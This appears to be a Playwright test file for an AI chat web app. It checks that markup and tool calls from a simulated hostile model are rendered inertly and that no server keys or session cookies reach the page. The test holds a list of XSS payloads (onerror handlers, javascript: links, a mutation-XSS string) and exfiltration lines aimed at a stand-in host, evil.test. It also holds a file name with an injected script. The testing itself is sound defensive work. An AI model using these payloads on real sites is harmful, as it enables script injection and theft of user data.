import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { startProviders, type Providers } from '#tests/upstreams/index.ts';
import { Crosspoint } from '#tests/support/crosspoint.ts';
import { launch, visit } from './browser.ts';

/** What a hostile model writes: each line wants to run something, or to send something away. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '<svg onload=alert(3)><image href="https://evil.test/a.png"></svg>',
  '![a picture](https://evil.test/steal.png?secret=1)',
  '[a link](javascript:alert(4))',
  '[data](data:text/html,<script>alert(5)</script>)',
  '<iframe srcdoc="<script>alert(6)</script>"></iframe>',
  '<form action="https://evil.test"><button>Send</button></form>',
  '<div style="background:url(https://evil.test/b.png)">styled</div>',
  '<video poster="https://evil.test/c.png"></video>',
  '<a href="https://evil.test" target="_blank">out</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>',
  '<details open ontoggle=alert(8)>x</details>',
  '```html\n<img src=x onerror=alert(9)>\n```',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/d.css">',
  '<object data="https://evil.test/e"></object><embed src="https://evil.test/f">',
].join('\n\n');

let browser: Browser;
let providers: Providers;
let crosspoint: Crosspoint;
before(async () => {
  providers = await startProviders({
    script: ({ step }) =>
      step === 0
        ? {
            reasoning: hostile,
            text: hostile,
            calls: [
              {
                name: 'run_terminal_command',
                args: { command: `printf '%s' ${JSON.stringify(hostile.slice(0, 200))}` },
              },
              { name: 'write_file', args: { path: '<img src=x onerror=alert(10)>.txt', content: hostile } },
            ],
          }
        : { text: `Finished.\n\n${hostile}` },
  });
  const model = { DEFAULT_MODEL_PROVIDER: 'anthropic', DEFAULT_MODEL: 'claude-sonnet-4-6' };
  [browser, crosspoint] = await Promise.all([launch(), Crosspoint.start({ ...providers.env(), ...model })]);
});
after(async () => {
  await browser.close();
  await crosspoint.remove();
  await providers.close();
});

test('what a hostile model writes runs nothing, asks nobody else and leaves the page', async () => {
  const { page, complaints, context } = await visit(browser, crosspoint.link);
  await page.getByRole('textbox', { name: 'Message' }).fill(`Show me this: ${hostile}`);
  await page.keyboard.press('Control+Enter');
  const review = page.getByRole('region', { name: 'Review' });
  await review.waitFor();
  await page.keyboard.press('Control+Enter');
  await page.getByRole('log').getByText('Finished.').waitFor();
  await page.reload();
  await page.getByRole('log').getByText('Finished.').waitFor();
  const inside =
    'iframe, object, embed, form[action], base[href], script:not([src]):not([nonce]), [onerror], [onload]';
  assert.equal(await page.getByRole('log').locator(inside).count(), 0);
  for (const link of await page.getByRole('log').getByRole('link').all()) {
    assert.match((await link.getAttribute('href')) ?? '', /^(https?:|\/|#)/);
    assert.match((await link.getAttribute('rel')) ?? 'noopener', /noopener/);
  }
  assert.ok(page.url().startsWith(crosspoint.origin));
  assert.deepEqual(complaints, []);
  assert.deepEqual(providers.mistakes, []);
  await context.close();
});

test('no key, token or session of the server is readable in the page', async () => {
  const { page, context } = await visit(browser, await crosspoint.newLink());
  await page.getByRole('textbox', { name: 'Message' }).waitFor();
  const readable = await page.evaluate<string>(
    'JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, document.documentElement.outerHTML])',
  );
  const answers: Promise<string>[] = [];
  page.on('response', (response) => {
    // A stream of events has no end to wait for.
    if (response.url().includes('/api/') && !response.url().includes('/events'))
      answers.push(response.text());
  });
  await page.goto(`${crosspoint.origin}/settings`);
  await page.waitForLoadState('networkidle');
  const bodies = await Promise.all(answers);
  assert.ok(bodies.length > 0, 'the page asked the API');
  for (const { key } of [providers.openai, providers.anthropic, providers.groq, providers.openrouter])
    assert.ok(![readable, ...bodies].some((text) => text.includes(key)));
  const cookies = await context.cookies();
  assert.ok(
    cookies.length > 0 && cookies.every(({ httpOnly, sameSite }) => httpOnly && sameSite === 'Strict'),
  );
  assert.ok(!new URL(page.url()).hash.includes('k='), 'the key of the link is gone from the address');
});
